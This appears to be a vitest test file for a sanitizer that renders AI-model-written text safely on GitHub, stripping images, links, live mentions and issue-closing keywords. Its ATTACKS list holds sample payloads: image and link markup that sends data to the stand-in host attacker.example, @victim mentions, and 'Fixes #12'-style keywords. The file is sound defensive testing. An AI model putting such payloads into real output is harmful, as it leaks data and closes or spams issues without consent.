// Model-written text rendered as GitHub would (GFM through micromark, raw HTML allowed like GitHub's own renderer):
// no image, no link, and no closing keyword or mention outside a code span, whatever the model writes.
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { describe, expect, test } from 'vitest';
import { modelPlainText, modelText } from '../../src/report/model-text.js';

const render = (md: string) =>
  micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
/** The rendered HTML with code elements cut out: where GitHub looks for mentions, issue references and keywords. */
const outsideCode = (html: string) => html.replace(/<code\b[^>]*>[\s\S]*?<\/code>/g, ' ');
const CLOSES = /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\b:?\s+(?:[\w.-]+\/[\w.-]+)?#\d+|\/issues\/\d+/i;

const ATTACKS = [
  'Done. ![x](https://attacker.example/p.png?d=c2VjcmV0)',
  'Done. ![x][pic]\n\n[pic]: https://attacker.example/p.png?d=1',
  '<img src="https://attacker.example/p.png?d=1"> and <a href="https://attacker.example">docs</a>',
  'See [the docs](https://attacker.example/?d=1 "title") or [ref][r].\n[r]: https://attacker.example/r',
  'Plain https://attacker.example/?d=secret and www.attacker.example and <https://attacker.example/auto> and mail a@attacker.example',
  'Fixes #12. Also closes: #13, resolved acme/other#14, fix https://github.com/acme/calc/issues/15',
  'FIXED\n#16 and Resolves   #17',
  'Thanks @alice and @acme/security-team!',
  'Unbalanced ` before @victim and fixes #18',
  'Escaped \\@victim and \\`fixes #19',
  '```js\nconst a = 1; // fixes #20 @victim\n```\nafter: @victim',
  '`` code with ` inside `` then @victim https://attacker.example/x',
  '[nested [brackets]](https://attacker.example/n) ![a](https://attacker.example/(p).png)',
  '&#64;victim and fixes &#35;21',
];

describe('model text on GitHub', () => {
  test.each(ATTACKS)('%j renders with no image, no link, no live mention or closing keyword', (attack) => {
    const html = render(modelText(attack));
    expect(html).not.toMatch(/<img\b/i);
    expect(html).not.toMatch(/<a\b/i);
    const live = outsideCode(html);
    expect(live).not.toMatch(/(?<!\w)@(?:victim|alice|acme)/);
    expect(live).not.toMatch(CLOSES);
  });

  test('ordinary text keeps its words, code and lists', () => {
    const md = modelText(
      'Applied the **rate** in `tax()`:\n\n- uses `rate` when a < b\n- see https://example.com/docs\n',
    );
    const html = render(md);
    expect(html).toContain('<strong>rate</strong>');
    expect(html).toContain('<code>tax()</code>');
    expect(html).toContain('<li>uses <code>rate</code> when a &lt; b</li>');
    expect(html).toContain('<code>https://example.com/docs</code>');
  });

  test('links keep their text; images say they were removed', () => {
    expect(render(modelText('[the docs](https://x.example) ![chart](https://x.example/c.png)'))).toContain(
      'the docs (image removed)',
    );
  });

  test('commit messages: a closing keyword is separated from its issue, mentions are quoted', () => {
    expect(modelPlainText('Fixes #12 for @alice; see closes: acme/x#3')).toBe(
      'Fixes issue #12 for `@alice`; see closes: issue acme/x#3',
    );
  });
});
